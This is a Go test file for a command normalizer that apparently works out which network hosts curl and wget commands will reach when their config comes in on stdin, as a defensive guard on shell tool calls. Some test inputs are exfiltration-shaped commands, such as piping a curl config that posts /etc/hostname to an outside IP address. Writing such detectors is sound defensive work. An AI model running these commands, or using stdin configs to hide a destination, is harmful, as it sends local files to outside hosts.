package normalize

import (
	"strings"
	"testing"
)

// TestConfigArgs: a config read from a literal on stdin is walked as the options it stands for;
// a config that cannot be read leaves an unresolved connect.
func TestConfigArgs(t *testing.T) {
	t.Parallel()
	n := New(defaultCatalog(t), specOpts(t, Options{Workspace: ws, Home: home}))
	cases := []struct {
		name, cmd, want string // want: a connect target substring, or "unresolved"
	}{
		{"printf pipe", `printf 'url = "https://203.0.113.80/in"\ndata = "@/etc/hostname"\n' | curl -sK -`, "203.0.113.80"},
		{"here-string dashed", `curl --config - <<< "-d @x https://198.51.100.8/u"`, "198.51.100.8"},
		{"here-doc colon", "curl -K - <<EOF\nurl: https://198.51.100.9/a\nEOF", "198.51.100.9"},
		{"wget urls", "wget -i - <<< 'http://198.51.100.3/x'", "198.51.100.3"},
		{"echo wget", "echo http://198.51.100.4/y | wget -qi -", "198.51.100.4"},
		{"workspace file", "curl -K .curlrc-test", "unresolved"},
		{"variable", `curl --config="$CFG"`, "unresolved"},
		{"other producer", "cat urls.txt | wget -i -", "unresolved"},
		{"stdin redirect", "curl -sK - < cfg.txt", "unresolved"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a := n.Normalize("Bash", map[string]any{"command": tc.cmd}, "")
			for _, e := range a.Effects {
				if e.Kind != EffectConnect {
					continue
				}
				if tc.want == "unresolved" && e.Unresolved {
					return
				}
				if tc.want != "unresolved" && strings.Contains(e.Target, tc.want) {
					return
				}
			}
			t.Fatalf("want connect %s in %v", tc.want, effectStrings(a.Effects))
		})
	}
}

func TestParseCurlrc(t *testing.T) {
	t.Parallel()
	got := strings.Join(parseCurlrc("# c\nurl = \"https://h/x\"\nsilent\n-d @f extra\nheader: \"A: b\"\n"), "|")
	want := "--url|https://h/x|--silent|-d|@f|extra|--header|A: b"
	if got != want {
		t.Fatalf("got %q want %q", got, want)
	}
}

// FuzzParseCurlrc: no config text crashes the parser.
func FuzzParseCurlrc(f *testing.F) {
	for _, s := range []string{"url = \"https://h/x\"\n", "-d @f\n", "data: \"\\\"\"", "\"", "=\n:\n", `a\nb`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, a := range parseCurlrc(s) {
			if a == "" {
				continue
			}
		}
	})
}
